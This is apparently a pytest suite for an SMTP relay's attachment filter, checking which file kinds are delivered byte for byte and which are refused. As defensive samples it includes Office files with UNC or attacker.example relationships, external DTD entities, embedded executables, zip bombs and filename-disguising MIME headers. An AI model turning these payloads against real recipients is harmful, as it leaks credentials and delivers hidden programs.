"""Attachments end to end over SMTP: judged by their bytes, delivered intact or refused by name.

Every test talks to the real relay on a loopback port and reads what the capture inbox got and
what the store recorded. Payloads come from samples.py (real, minimal files of each kind).
"""

from __future__ import annotations

import base64
import bz2
import dataclasses
import io
import zipfile
import zlib

import pytest
import samples
from conftest import BUYER, SELLER, make_config, open_conv, send
from support.attachment_mail import (
    BODY,
    assert_not_delivered,
    assert_refused,
    attachments,
    last_record,
    message,
    start_with_rules,
)

from relay.config import RulesSettings

PDF = "application/pdf"
OCTET = "application/octet-stream"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX_TYPE = "application/vnd.openxmlformats-officedocument.presentationml.presentation"

# Both directions: (who sends, which alias they write to, who should receive).
DIRECTIONS = {
    "buyer_to_seller": (BUYER, "seller_alias", SELLER),
    "seller_to_buyer": (SELLER, "buyer_alias", BUYER),
}


def route(conv, direction: str) -> tuple[str, str, str]:
    sender, alias_attr, recipient = DIRECTIONS[direction]
    return sender, getattr(conv, alias_attr), recipient


# -- allowed kinds travel byte for byte ------------------------------------------------------

ALLOWED = [
    ("invoice.pdf", samples.pdf(), PDF),
    ("photo.png", samples.png(), "image/png"),
    ("photo.jpg", samples.jpeg(), "image/jpeg"),
    ("scan.jpeg", samples.jpeg(), "image/jpeg"),
    ("packing-list.txt", samples.text(), "text/plain"),
    ("prices.csv", b"order,price\n112-1234567-1234567,24.99\n", "text/csv"),
    ("invoice.docx", samples.docx(), DOCX_TYPE),
    ("orders.xlsx", samples.xlsx(), XLSX_TYPE),
    ("slides.pptx", samples.pptx(), PPTX_TYPE),
    ("legacy.doc", samples.ole_doc(macros=False), "application/msword"),
    # No extension at all is fine: the content decides.
    ("scan-without-extension", samples.pdf(), OCTET),
]


@pytest.mark.parametrize("direction", list(DIRECTIONS))
@pytest.mark.parametrize(("filename", "data", "ctype"), ALLOWED, ids=[f[0] for f in ALLOWED])
async def test_allowed_kind_is_delivered_byte_for_byte(relay, conv, capture, direction,
                                                       filename, data, ctype):
    sender, alias, recipient = route(conv, direction)
    code, reply = await send(relay.smtp_port, sender, alias,
                             message(sender, alias, [(filename, data, ctype)]))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert got.rcpt_tos == [recipient]
    assert attachments(got) == [(filename, data)]
    row = await last_record(relay, conv)
    assert row["direction"] == direction
    assert not any(r.startswith("attachment.") for r in row["reasons"]), row["reasons"]


async def test_every_allowed_kind_together_in_one_message(relay, conv, capture):
    files = [ALLOWED[0], ALLOWED[1], ALLOWED[2], ALLOWED[4], ALLOWED[6]]  # 5: the default max
    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                             message(BUYER, conv.seller_alias, files))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert attachments(got) == [(name, data) for name, data, _ in files]


# -- refused kinds: the reason code, the file's name, the record -----------------------------

BLOB = bytes(range(256)) * 4  # binary, starts with NUL: no allowed kind

REFUSED = [
    # executables, by content whatever the name, and by name whatever the content
    ("setup.exe", samples.exe(), OCTET, "attachment.executable"),
    ("update", samples.elf(), OCTET, "attachment.executable"),
    ("tool.dat", samples.macho(), OCTET, "attachment.executable"),
    ("screensaver.scr", samples.text(), "text/plain", "attachment.executable"),
    ("installer.msi", samples.text(), OCTET, "attachment.executable"),
    # scripts
    ("run.sh", samples.shell_script(), "text/x-shellscript", "attachment.script"),
    ("notes.txt", samples.shell_script(), "text/plain", "attachment.script"),
    ("app.js", samples.javascript(), "text/javascript", "attachment.script"),
    ("macro.vbs", samples.text(), "text/plain", "attachment.script"),
    ("fix.ps1", samples.text(), "text/plain", "attachment.script"),
    ("start.bat", samples.text(), "text/plain", "attachment.script"),
    ("start.cmd", samples.text(), "text/plain", "attachment.script"),
    ("tool.py", samples.text(), "text/plain", "attachment.script"),
    ("logo.svg", samples.svg(), "image/svg+xml", "attachment.script"),
    # archives
    ("photos.zip", samples.zip_archive(), "application/zip", "attachment.archive"),
    ("photos.dat", samples.zip_archive(), OCTET, "attachment.archive"),
    ("backup.dat", samples.rar(), OCTET, "attachment.archive"),
    ("backup.7z", samples.seven_zip(), OCTET, "attachment.archive"),
    ("backup2.dat", samples.seven_zip(), OCTET, "attachment.archive"),
    ("logs.dat", samples.gzip_blob(), OCTET, "attachment.archive"),
    ("bundle.dat", samples.tar_blob(), OCTET, "attachment.archive"),
    ("empty.zip", samples.text(), OCTET, "attachment.archive"),
    # HTML, by name and by content
    ("invoice.html", samples.html_attachment(), "text/html", "attachment.html"),
    ("page.htm", samples.text(), "text/plain", "attachment.html"),
    ("invoice.txt", samples.html_attachment(), "text/plain", "attachment.html"),
    ("drawing.txt", samples.svg(), "text/plain", "attachment.html"),
    # Office documents with macros, by name and by content
    ("report.docm", samples.docm(), OCTET, "attachment.macro"),
    ("sheet.xlsm", samples.xlsm(), OCTET, "attachment.macro"),
    ("report.docx", samples.docm(), DOCX_TYPE, "attachment.macro"),
    ("book.xlsx", samples.xlsm(), XLSX_TYPE, "attachment.macro"),
    ("old.doc", samples.ole_doc(macros=True), "application/msword", "attachment.macro"),
    # an allowed kind under another kind's extension
    ("invoice.pdf", samples.png(), PDF, "attachment.mismatch"),
    ("photo.png", samples.jpeg(), "image/png", "attachment.mismatch"),
    ("scan.jpg", samples.pdf(), "image/jpeg", "attachment.mismatch"),
    ("notes.txt", samples.pdf(), "text/plain", "attachment.mismatch"),
    ("contract.pdf", samples.docx(), PDF, "attachment.mismatch"),
    # none of the allowed kinds
    ("blob.dat", BLOB, OCTET, "attachment.type"),
    ("readme.txt", BLOB, "text/plain", "attachment.type"),
]


@pytest.mark.parametrize(("filename", "data", "ctype", "code"), REFUSED,
                         ids=[f"{f[3].split('.')[1]}-{f[0]}" for f in REFUSED])
async def test_refused_kind_names_reason_and_file(relay, conv, capture, filename, data, ctype,
                                                  code):
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [(filename, data, ctype)]))
    await assert_refused(relay, conv, capture, reply, code, filename)


@pytest.mark.parametrize(("filename", "data", "code"), [
    ("setup.exe", samples.exe(), "attachment.executable"),
    ("photos.zip", samples.zip_archive(), "attachment.archive"),
    ("invoice.pdf", samples.png(), "attachment.mismatch"),
])
async def test_refused_from_seller_to_buyer(relay, conv, capture, filename, data, code):
    reply = await send(relay.smtp_port, SELLER, conv.buyer_alias,
                       message(SELLER, conv.buyer_alias, [(filename, data, OCTET)]))
    await assert_refused(relay, conv, capture, reply, code, filename)
    assert (await last_record(relay, conv))["direction"] == "seller_to_buyer"


async def test_declared_type_that_lies_is_judged_by_content(relay, conv, capture):
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [("report.pdf", samples.exe(), PDF)]))
    text = await assert_refused(relay, conv, capture, reply, "attachment.executable",
                                "report.pdf")
    assert "executable" in text


async def test_mismatch_reply_says_what_the_file_is(relay, conv, capture):
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [("invoice.pdf", samples.png(), PDF)]))
    text = await assert_refused(relay, conv, capture, reply, "attachment.mismatch",
                                "invoice.pdf")
    assert "png" in text.lower(), text


async def test_one_bad_file_refuses_the_whole_message(relay, conv, capture):
    files = [("invoice.pdf", samples.pdf(), PDF), ("setup.exe", samples.exe(), OCTET)]
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, files))
    await assert_refused(relay, conv, capture, reply, "attachment.executable", "setup.exe")


# -- count and size --------------------------------------------------------------------------


def pdfs(count: int) -> list[tuple[str, bytes, str]]:
    return [(f"file{n}.pdf", samples.pdf(), PDF) for n in range(1, count + 1)]


async def test_five_attachments_pass(relay, conv, capture):
    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                             message(BUYER, conv.seller_alias, pdfs(5)))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert [name for name, _ in attachments(got)] == [f"file{n}.pdf" for n in range(1, 6)]


async def test_more_than_five_attachments_is_refused(relay, conv, capture):
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, pdfs(6)))
    text = await assert_refused(relay, conv, capture, reply, "attachment.count", "file6.pdf")
    assert "at most 5 per message" in text


async def test_reply_names_the_first_file_over_the_count(relay, conv, capture):
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, pdfs(7)))
    await assert_refused(relay, conv, capture, reply, "attachment.count", "file6.pdf")


async def test_reply_names_an_extra_file_over_the_count(relay, conv, capture):
    code, text = await send(relay.smtp_port, BUYER, conv.seller_alias,
                            message(BUYER, conv.seller_alias, pdfs(7)))
    assert code == 550, text
    assert text.startswith(('5.7.1 attachment.count: "file6.pdf" ',
                            '5.7.1 attachment.count: "file7.pdf" ')), text
    assert "at most 5 per message" in text
    row = await last_record(relay, conv)
    assert (row["disposition"], row["reasons"]) == ("rejected", ["attachment.count"])
    await assert_not_delivered(relay, capture, row)


async def test_count_limit_follows_config(relay_factory, capture, tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path, attachment_max_count=2)
    reply = await send(relay.smtp_port, SELLER, conv.buyer_alias,
                       message(SELLER, conv.buyer_alias, pdfs(3)))
    text = await assert_refused(relay, conv, capture, reply, "attachment.count", "file3.pdf")
    assert "at most 2 per message" in text


async def test_attachments_over_the_total_size_are_refused(relay_factory, capture, tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path,
                                         attachment_max_total=1000)
    files = [("a.txt", b"a" * 599 + b"\n", "text/plain"),
             ("b.txt", b"b" * 599 + b"\n", "text/plain")]  # 600 + 600 > 1000
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, files))
    text = await assert_refused(relay, conv, capture, reply, "attachment.size", "b.txt")
    assert "1,000" in text, text


async def test_attachments_exactly_at_the_total_size_pass(relay_factory, capture, tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path,
                                         attachment_max_total=1000)
    files = [("a.txt", b"a" * 499 + b"\n", "text/plain"),
             ("b.txt", b"b" * 499 + b"\n", "text/plain")]  # exactly 1000
    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                             message(BUYER, conv.seller_alias, files))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert attachments(got) == [(name, data) for name, data, _ in files]


# -- GIFs belong to the style rule -----------------------------------------------------------


@pytest.mark.parametrize("direction", list(DIRECTIONS))
@pytest.mark.parametrize(("gif_name", "gif_type"), [("smile.gif", "image/gif"),
                                                    ("photo.png", "image/png")])
async def test_gif_is_removed_by_default_and_the_rest_delivered(relay, conv, capture,
                                                                direction, gif_name, gif_type):
    sender, alias, recipient = route(conv, direction)
    files = [(gif_name, samples.gif(), gif_type), ("invoice.pdf", samples.pdf(), PDF)]
    code, reply = await send(relay.smtp_port, sender, alias, message(sender, alias, files))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert got.rcpt_tos == [recipient]
    assert attachments(got) == [("invoice.pdf", samples.pdf())]
    assert b"GIF89a" not in got.data
    assert not any(
        (part.get_payload(decode=True) or b"").startswith(b"GIF")
        for part in got.message.walk() if not part.is_multipart()
    )
    row = await last_record(relay, conv)
    assert row["disposition"] == "delivered_redacted"
    assert "style.emoji" in row["reasons"]


async def test_gif_is_an_attachment_type_when_style_emoji_is_off(relay_factory, capture,
                                                                 tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path, style_emoji="off")
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [("smile.gif", samples.gif(),
                                                           "image/gif")]))
    await assert_refused(relay, conv, capture, reply, "attachment.type", "smile.gif")


async def test_gif_refuses_the_message_when_style_emoji_is_reject(relay_factory, capture,
                                                                  tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path, style_emoji="reject")
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [("smile.gif", samples.gif(),
                                                           "image/gif")]))
    code, text = reply
    assert code == 550, reply
    assert text.startswith("5.7.1 style.emoji: "), text
    row = await last_record(relay, conv)
    assert (row["disposition"], row["reasons"]) == ("rejected", ["style.emoji"])
    await assert_not_delivered(relay, capture, row)


# -- the attachment action and the allowed types ---------------------------------------------


@pytest.mark.parametrize("direction", list(DIRECTIONS))
async def test_strip_removes_the_bad_file_and_delivers_the_rest(relay_factory, capture,
                                                                tmp_path, direction):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path, attachment="strip")
    sender, alias, recipient = route(conv, direction)
    files = [("setup.exe", samples.exe(), OCTET), ("invoice.pdf", samples.pdf(), PDF)]
    code, reply = await send(relay.smtp_port, sender, alias, message(sender, alias, files))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert got.rcpt_tos == [recipient]
    assert attachments(got) == [("invoice.pdf", samples.pdf())]
    assert "setup.exe" not in got.data.decode("ascii", "replace")
    row = await last_record(relay, conv)
    assert (row["disposition"], row["reasons"]) == ("delivered_redacted",
                                                    ["attachment.executable"])


async def test_strip_removes_the_extra_files_over_the_count(relay_factory, capture, tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path, attachment="strip")
    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                             message(BUYER, conv.seller_alias, pdfs(7)))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert [name for name, _ in attachments(got)] == [f"file{n}.pdf" for n in range(1, 6)]
    row = await last_record(relay, conv)
    assert (row["disposition"], row["reasons"]) == ("delivered_redacted", ["attachment.count"])


async def test_off_lets_anything_through(relay_factory, capture, tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path, attachment="off")
    files = [("setup.exe", samples.exe(), OCTET), ("photos.zip", samples.zip_archive(),
                                                   "application/zip")]
    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                             message(BUYER, conv.seller_alias, files))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert attachments(got) == [(name, data) for name, data, _ in files]
    row = await last_record(relay, conv)
    assert not any(r.startswith("attachment.") for r in row["reasons"]), row["reasons"]


async def test_office_removed_from_types_refuses_a_docx(relay_factory, capture, tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path,
                              attachment_types=("pdf", "png", "jpeg", "text"))
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [("invoice.docx", samples.docx(),
                                                           DOCX_TYPE)]))
    text = await assert_refused(relay, conv, capture, reply, "attachment.type", "invoice.docx")
    assert "not allowed" in text


async def test_pdf_removed_from_types_says_so(relay_factory, capture, tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path,
                              attachment_types=("png", "jpeg", "text", "office"))
    reply = await send(relay.smtp_port, SELLER, conv.buyer_alias,
                       message(SELLER, conv.buyer_alias, [("invoice.pdf", samples.pdf(), PDF)]))
    text = await assert_refused(relay, conv, capture, reply, "attachment.type", "invoice.pdf")
    assert text.endswith("is a pdf file, which is not allowed"), text


async def test_kinds_left_in_types_still_pass(relay_factory, capture, tmp_path):
    relay, conv = await start_with_rules(relay_factory, capture, tmp_path,
                                         attachment_types=("png",))
    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                             message(BUYER, conv.seller_alias, [("photo.png", samples.png(),
                                                                 "image/png")]))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert attachments(got) == [("photo.png", samples.png())]



# -- inside Office files: content from outside, programs, bombs ------------------------------

RELS = "word/_rels/document.xml.rels"
PNG_PART = ("word/media/image1.png", samples.png())


def rels(*entries: tuple[str, str, str | None]) -> tuple[str, str]:
    return (RELS, samples.relationships(*entries))


def raw_entries(package: bytes, method: int = zipfile.ZIP_DEFLATED) -> list[samples.RawEntry]:
    """A zip's members as raw entries, compressed again (bzip2 or deflate)."""
    entries = []
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        for info in source.infolist():
            data = source.read(info)
            packed = (bz2.compress(data) if method == zipfile.ZIP_BZIP2
                      else samples.deflated(data).packed)
            entries.append(samples.RawEntry(info.filename, packed, len(data), zlib.crc32(data),
                                            method))
    return entries


def lying_docx() -> bytes:
    """One relationship part declares 300 bytes and inflates to 50 MB of zeros."""
    bomb = samples.deflated(bytes(50_000_000))
    lie = samples.RawEntry("word/_rels/header1.xml.rels", bomb.packed, 300, bomb.crc)
    return samples.raw_zip([*raw_entries(samples.docx()), lie])


XLSX_WITH_EXE = samples.repack(samples.xlsx(), ("xl/embeddings/oleObject1.bin",
                                                samples.ole_package("setup.exe", samples.exe())))
UNC = "\\\\files.attacker.example\\share\\logo.png"

# (file name, bytes, reason code, words the reply must hold)
OFFICE_REFUSED = [
    # relationships to content outside the file, fetched (or offered) when it is opened
    ("invoice.docx", samples.attached_template_docx(), "attachment.external",
     "attachedTemplate"),
    ("remote-image.docx", samples.docx_with(rels(("image", "http://pixel.example/p.png",
                                                  "External"))), "attachment.external", "image"),
    ("link.docx", samples.docx_with(rels(("hyperlink", "https://elsewhere.example/",
                                          "External"))), "attachment.external", "hyperlink"),
    ("frame.docx", samples.docx_with(rels(("frame", "https://elsewhere.example/f", " external "))),
     "attachment.external", "frame"),
    # a UNC path hands the reader's Windows credentials to that host, whatever the mode says
    ("unc.docx", samples.docx_with(rels(("image", UNC, None))), "attachment.external", "image"),
    ("url.docx", samples.docx_with(rels(("image", "file://attacker.example/p.png", None))),
     "attachment.external", "image"),
    ("package.docx", samples.docx_with(("_rels/.rels", samples.relationships(
        ("hyperlink", "https://elsewhere.example/", "External")))), "attachment.external",
     "hyperlink"),
    ("entities.docx", samples.docx_with((RELS, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e'
                                               ' SYSTEM "https://x.example/e">]><r>&e;</r>')),
     "attachment.external", "DTD"),
    ("orders.xlsx", samples.repack(samples.xlsx(), ("xl/_rels/workbook.xml.rels",
                                                    samples.relationships(
        ("oleObject", "https://elsewhere.example/o.bin", "External")))), "attachment.external",
     "oleObject"),
    # programs inside: by name, by their first bytes, wrapped in an OLE Packager object
    ("exe-inside.docx", samples.docx_with(("word/embeddings/setup.exe", samples.exe())),
     "attachment.embedded", "setup.exe"),
    ("hta-inside.docx", samples.docx_with(("word/media/update.hta", samples.text())),
     "attachment.embedded", "update.hta"),
    ("js-inside.docx", samples.docx_with(("customXml/run.js", samples.javascript())),
     "attachment.embedded", "run.js"),
    ("mz-object.docx", samples.docx_with(("word/embeddings/oleObject1.bin", samples.exe())),
     "attachment.embedded", "program"),
    ("renamed-exe.docx", samples.docx_with(("word/media/image2.png", samples.exe())),
     "attachment.embedded", "program"),
    ("packaged.docx", samples.docx_with(("word/embeddings/oleObject1.bin",
                                         samples.ole_package("run.js", samples.javascript()))),
     "attachment.embedded", "program"),
    ("packaged.xlsx", XLSX_WITH_EXE, "attachment.embedded", "program"),
    ("legacy.doc", samples.ole_package("setup.exe", samples.exe()), "attachment.embedded",
     "program"),
    # Office files embedded in Office files are read too
    ("nested.docx", samples.docx_with(("word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                                       XLSX_WITH_EXE)), "attachment.embedded", "program"),
    ("nested-macro.docx", samples.docx_with(("word/embeddings/Book1.xlsx", samples.xlsm())),
     "attachment.macro", "macros"),
    ("nested-zip.docx", samples.docx_with(("word/embeddings/photos.bin", samples.zip_archive())),
     "attachment.embedded", "archive"),
    # what Office does not write
    ("bzip2.docx", samples.raw_zip(raw_entries(samples.docx(), zipfile.ZIP_BZIP2)),
     "attachment.archive", "compression"),
    ("lying.docx", lying_docx(), "attachment.archive", "damaged"),
]


@pytest.mark.parametrize(("filename", "data", "code", "words"), OFFICE_REFUSED,
                         ids=[f[0] for f in OFFICE_REFUSED])
async def test_office_file_reaching_outside_or_carrying_programs_is_refused(
        relay, conv, capture, filename, data, code, words):
    ctype = XLSX_TYPE if filename.endswith(".xlsx") else DOCX_TYPE
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [(filename, data, ctype)]))
    text = await assert_refused(relay, conv, capture, reply, code, filename)
    assert words in text, text


OFFICE_ALLOWED = [
    ("picture.docx", samples.docx_with(rels(("image", "media/image1.png", None)), PNG_PART)),
    ("chart.docx", samples.docx_with(("word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                                      samples.xlsx()))),
    ("notes.docx", samples.docx_with(("word/embeddings/oleObject1.bin",
                                      samples.ole_package("notes.txt", samples.text())))),
    ("icon.docx", samples.docx_with(("word/media/image1.svg", samples.svg()))),
    ("printed.xlsx", samples.repack(samples.xlsx(), ("xl/printerSettings/printerSettings1.bin",
                                                     bytes(range(256)) * 8))),
]


@pytest.mark.parametrize(("filename", "data"), OFFICE_ALLOWED, ids=[f[0] for f in OFFICE_ALLOWED])
async def test_ordinary_office_parts_are_delivered(relay, conv, capture, filename, data):
    """Internal relationships, embedded workbooks, Packager objects holding documents, SVG
    icons and printer settings are what real files hold: no false alarm."""
    ctype = XLSX_TYPE if filename.endswith(".xlsx") else DOCX_TYPE
    code, reply = await send(relay.smtp_port, SELLER, conv.buyer_alias,
                             message(SELLER, conv.buyer_alias, [(filename, data, ctype)]))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert attachments(got) == [(filename, data)]


async def big_relay(relay_factory, capture, tmp_path, **rules):
    """A relay taking 8 MB messages, its [rules] changed as given."""
    config = make_config(tmp_path, capture.port)
    config = config.replace(smtp=dataclasses.replace(config.smtp, max_message_size=8_000_000),
                            rules=RulesSettings(**rules))
    relay = await relay_factory(config)
    return relay, await open_conv(relay)


async def test_two_mb_docx_unpacking_to_two_gib_is_a_bomb(relay_factory, capture, tmp_path):
    """The sizes come from the zip's directory: nothing is inflated to find them."""
    relay, conv = await big_relay(relay_factory, capture, tmp_path)
    bomb = samples.docx_bomb(128, 16 << 20)
    assert len(bomb) < 2_500_000
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [("report.docx", bomb, DOCX_TYPE)]))
    text = await assert_refused(relay, conv, capture, reply, "attachment.bomb", "report.docx")
    assert "unpacks to 2,147,4" in text and "(at most 104,857,600)" in text, text


async def test_expansion_ratio_follows_config(relay_factory, capture, tmp_path):
    bomb = samples.docx_bomb(1, 2 << 20)  # 2 MiB of zeros in about 4 KB
    relay, conv = await big_relay(relay_factory, capture, tmp_path)
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [("report.docx", bomb, DOCX_TYPE)]))
    text = await assert_refused(relay, conv, capture, reply, "attachment.bomb", "report.docx")
    assert "times its size (at most 100)" in text, text

    relay, conv = await big_relay(relay_factory, capture, tmp_path / "lax",
                                  attachment_max_ratio=1000)
    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                             message(BUYER, conv.seller_alias, [("report.docx", bomb, DOCX_TYPE)]))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert attachments(got) == [("report.docx", bomb)]


async def test_total_unpacked_size_follows_config(relay_factory, capture, tmp_path):
    relay, conv = await big_relay(relay_factory, capture, tmp_path, attachment_max_ratio=10_000,
                                  attachment_max_unpacked=1_000_000)
    reply = await send(relay.smtp_port, SELLER, conv.buyer_alias,
                       message(SELLER, conv.buyer_alias,
                               [("report.docx", samples.docx_bomb(1, 2 << 20), DOCX_TYPE)]))
    text = await assert_refused(relay, conv, capture, reply, "attachment.bomb", "report.docx")
    assert "unpacks to 2,09" in text and "(at most 1,000,000)" in text, text


async def test_too_many_parts_is_a_bomb(relay_factory, capture, tmp_path):
    relay, conv = await big_relay(relay_factory, capture, tmp_path)
    many = samples.docx_bomb(10_001, 1)
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       message(BUYER, conv.seller_alias, [("report.docx", many, DOCX_TYPE)]))
    text = await assert_refused(relay, conv, capture, reply, "attachment.bomb", "report.docx")
    assert "holds 10,00" in text, text


async def test_strip_removes_a_bomb_and_delivers_the_rest(relay_factory, capture, tmp_path):
    """attachment.bomb shares the attachment action: strip removes the file, keeps the rest."""
    relay, conv = await big_relay(relay_factory, capture, tmp_path, attachment="strip")
    files = [("report.docx", samples.docx_bomb(4, 16 << 20), DOCX_TYPE),
             ("invoice.pdf", samples.pdf(), PDF)]
    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                             message(BUYER, conv.seller_alias, files))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert attachments(got) == [("invoice.pdf", samples.pdf())]
    row = await last_record(relay, conv)
    assert (row["disposition"], row["reasons"]) == ("delivered_redacted", ["attachment.bomb"])


# -- every name a part gives ------------------------------------------------------------------


def named_part_message(sender: str, to: str, headers: str, data: bytes) -> bytes:
    """A text body and one part with exactly these Content-Type / Content-Disposition lines
    (the library would tidy up what is under test here)."""
    body = base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")
    return (f"From: {sender}\r\nTo: {to}\r\nSubject: Files for my order\r\n"
            "Date: Thu, 26 Nov 2026 10:00:00 +0100\r\n"
            f"Message-ID: <{abs(hash(headers))}@client.example>\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
            "--b1\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
            f"{BODY.strip()}\r\n"
            f"--b1\r\n{headers}\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}"
            "--b1--\r\n").encode("ascii")


OCTET_NAMED = "Content-Type: application/octet-stream; "
NAMES_REFUSED = [
    # Outlook shows (and saves as) the Content-Type name; others go by the filename.
    (OCTET_NAMED + 'name="update.hta"\r\nContent-Disposition: attachment; filename="notes.txt"',
     samples.text(), "attachment.script", "update.hta"),
    (OCTET_NAMED + 'name="notes.txt"\r\nContent-Disposition: attachment; filename="setup.exe"',
     samples.text(), "attachment.executable", "setup.exe"),
    (OCTET_NAMED + "name*=utf-8''update%2Ehta\r\nContent-Disposition: attachment;"
     ' filename="notes.txt"', samples.text(), "attachment.script", "update.hta"),
    (OCTET_NAMED + 'name="notes.txt"\r\nContent-Disposition: attachment;'
     ' filename*0="update"; filename*1=".h";\r\n filename*2="ta"; filename="notes.txt"',
     samples.text(), "attachment.script", "update.hta"),
    (OCTET_NAMED + "name=\"notes.txt\"\r\nContent-Disposition: attachment;"
     " filename*0*=utf-8''update; filename*1*=%2Ehta", samples.text(), "attachment.script",
     "update.hta"),
    (OCTET_NAMED + 'name="notes.txt"\r\nContent-Disposition: attachment; filename="notes.txt";'
     ' filename="update.hta"', samples.text(), "attachment.script", "update.hta"),
    (OCTET_NAMED + 'name="=?utf-8?b?dXBkYXRlLmh0YQ==?="\r\nContent-Disposition: attachment;'
     ' filename="notes.txt"', samples.text(), "attachment.script", "update.hta"),
    ('Content-Type: text/plain; name="notes.txt"; name="page.html"\r\n'
     'Content-Disposition: attachment; filename="notes.txt"', samples.text(), "attachment.html",
     "page.html"),
    (OCTET_NAMED + 'name="invoice.pdf"\r\nContent-Disposition: attachment;'
     ' filename="notes.txt"', samples.text(), "attachment.mismatch", "invoice.pdf"),
    # A word whose base64 is broken (the stdlib's decode_header raised: a 451 for ever),
    # beside a word nested in a word.
    (OCTET_NAMED + 'name="=?utf-8?b?Zm9vY?= notes.txt"\r\nContent-Disposition: attachment;'
     ' filename="=?utf-8?q?=3D=3Futf-8=3Fb=3FdXBkYXRlLmh0YQ=3D=3D=3F=3D?="', samples.text(),
     "attachment.script", "update.hta"),
]


@pytest.mark.parametrize(("headers", "data", "code", "name"), NAMES_REFUSED,
                         ids=[f"{n[2].split('.')[1]}-{i}" for i, n in enumerate(NAMES_REFUSED)])
async def test_every_name_of_a_part_must_pass(relay, conv, capture, headers, data, code, name):
    reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                       named_part_message(BUYER, conv.seller_alias, headers, data))
    await assert_refused(relay, conv, capture, reply, code, name)


async def test_names_that_agree_in_every_form_are_delivered(relay, conv, capture):
    headers = ("Content-Type: text/plain; charset=us-ascii; name*=utf-8''notes.txt\r\n"
               'Content-Disposition: attachment; filename="notes.txt"')
    code, reply = await send(relay.smtp_port, BUYER, conv.seller_alias,
                             named_part_message(BUYER, conv.seller_alias, headers,
                                                samples.text()))
    assert code == 250, reply
    (got,) = await capture.wait_for(1)
    assert attachments(got) == [("notes.txt", samples.text())]
